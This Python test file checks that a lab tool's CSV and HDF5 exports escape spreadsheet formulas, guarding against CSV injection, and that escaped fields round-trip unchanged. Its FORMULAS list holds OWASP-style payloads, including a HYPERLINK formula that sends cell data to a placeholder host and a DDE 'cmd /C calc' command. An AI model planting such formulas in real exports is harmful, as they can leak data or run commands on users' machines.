"""Texts of CSV files: no formulas of a spreadsheet, and the same texts when they come back."""

import csv
import io

import h5py
import pandas
import pytest
from hypothesis import given
from hypothesis import strategies as st

from hil.__main__ import main
from hil.record.csv_text import as_field, from_field
from hil.record.layout import LIBVER
from hil.runs.campaign.table import as_csv
from record.mutations import unpacked

# What Excel, LibreOffice and Google Sheets calculate (OWASP, CSV Injection).
FORMULAS = (
    '=HYPERLINK("http://x/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def fields_of(text):
    return [field for row in csv.reader(io.StringIO(text, newline="")) for field in row]


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_an_operator_types_is_no_formula_of_a_campaigns_table(formula):
    rows = [{"trial": 1, "note": formula, formula: -0.5, "error": None}]
    fields = fields_of(as_csv(rows))
    assert not [f for f in fields if f.startswith(STARTS) and f != "-0.5"]
    assert [from_field(f) for f in fields] == ["trial", "note", formula, "error",
                                               "1", formula, "-0.5", ""]  # fmt: skip


def test_a_negative_number_stays_a_number():
    assert as_field(-0.5) == -0.5
    assert as_csv([{"x": -0.5}]) == "x\n-0.5\n"


@given(st.text())
def test_every_text_comes_back_as_it_was(text):
    assert from_field(as_field(text)) == text
    assert not as_field(text).startswith(STARTS)


def test_names_of_channels_and_cells_are_no_formulas_of_an_export(tmp_path):
    path = unpacked("miga6-pid", tmp_path)
    with h5py.File(path, "r+", libver=LIBVER) as file:
        file.move("ticks/force_measured_N", "ticks/=1+1_measured_N")
        cells = file["model/cells"][:]
        del file["model/cells"]
        cells[0] = b"@A1"
        file["model/cells"] = cells
    assert main(["export", str(path)]) == 0
    text = path.with_suffix(".csv").read_text()
    names = fields_of(text.partition("\n")[0])
    assert "'=1+1_measured_N" in names
    assert not [name for name in names if name.startswith(STARTS)]
    table = pandas.read_csv(path.with_suffix(".csv")).rename(columns=from_field)
    assert len(table["=1+1_measured_N"]) == 100
